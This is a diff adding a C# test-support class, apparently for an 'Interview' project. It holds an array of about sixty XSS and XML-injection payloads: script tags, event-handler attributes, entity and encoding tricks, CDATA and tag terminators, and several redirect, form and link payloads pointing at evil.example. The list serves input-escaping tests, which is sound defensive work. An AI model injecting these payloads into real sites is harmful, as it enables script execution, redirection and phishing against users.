@@ -1,0 +1,73 @@
+namespace Interview.Tests.Support;
+
+/// <summary>
+/// Markup that tries to run script, load something or fake content wherever text is taken as HTML (a page, an RSS
+/// description) or as XML (a feed): classic XSS, entity and encoding tricks, CDATA and comment terminators, and tags
+/// that would end the element the text sits in. Most fit a 50-character name field.
+/// </summary>
+public static class XssPayloads
+{
+    public static readonly string[] All =
+    [
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "\"><svg onload=alert(1)>",
+        "'><svg/onload=alert(1)>",
+        "<svg><script>alert(1)</script></svg>",
+        "<a href=\"javascript:alert(1)\">点我</a>",
+        "javascript:alert(1)",
+        "<iframe src=javascript:alert(1)>",
+        "<body onload=alert(1)>",
+        "<details open ontoggle=alert(1)>",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+        "&lt;script&gt;alert(1)&lt;/script&gt;",
+        "&#60;script&#62;alert(1)&#60;/script&#62;",
+        "&#x3C;img src=x onerror=alert(1)&#x3E;",
+        "&amp;lt;b&amp;gt;粗&amp;lt;/b&amp;gt;",
+        "]]><script>alert(1)</script>",
+        "<![CDATA[<script>alert(1)</script>]]>",
+        "]]>",
+        "<!--<script>alert(1)//-->",
+        "<style>*{display:none}</style>",
+        "<link rel=stylesheet href=//evil.example/x.css>",
+        "<meta http-equiv=refresh content=0;url=//evil.example>",
+        "<base href=//evil.example/>",
+        "<form action=//evil.example><input name=q></form>",
+        "<object data=javascript:alert(1)>",
+        "<embed src=javascript:alert(1)>",
+        "<video><source onerror=alert(1)>",
+        "<audio src=x onerror=alert(1)>",
+        "<input autofocus onfocus=alert(1)>",
+        "<marquee onstart=alert(1)>滚动</marquee>",
+        "<table background=javascript:alert(1)>",
+        "<div style=\"background:url(javascript:alert(1))\">",
+        "<b>粗体</b>",
+        "<p>段落</p><h1>假标题</h1>",
+        "<a href=http://evil.example>点我领补贴</a>",
+        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
+        "<scr<script>ipt>alert(1)</scr</script>ipt>",
+        "<<script>alert(1);//<</script>",
+        "<img \"\"\"><script>alert(1)</script>\">",
+        "<svg><animate onbegin=alert(1) attributeName=x>",
+        "<x onclick=alert(1)>点击",
+        "<img src=x:alert(alt) onerror=eval(src) alt=0>",
+        "\"onmouseover=\"alert(1)",
+        "' onmouseover='alert(1)",
+        "</description><item><title>假</title></item>",
+        "</title><script>alert(1)</script>",
+        "</textarea><script>alert(1)</script>",
+        "<?xml version=\"1.0\"?><x/>",
+        "<!DOCTYPE x [<!ENTITY e \"x\">]>&e;",
+        "%3Cscript%3Ealert(1)%3C/script%3E",
+        "\\u003Cscript\\u003Ealert(1)\\u003C/script\\u003E",
+        "＜script＞alert(1)＜/script＞",
+        "<img src=x onerror=alert(1)//",
+        "<svg/onload=alert`1`>",
+        "<a href=\"&#106;avascript:alert(1)\">x</a>",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+        "<template><script>alert(1)</script></template>",
+        "<xmp><script>alert(1)</script></xmp>",
+        "<plaintext>",
+        "<img src=\"x\" onerror=\"&#97;lert(1)\">",
+    ];
+}
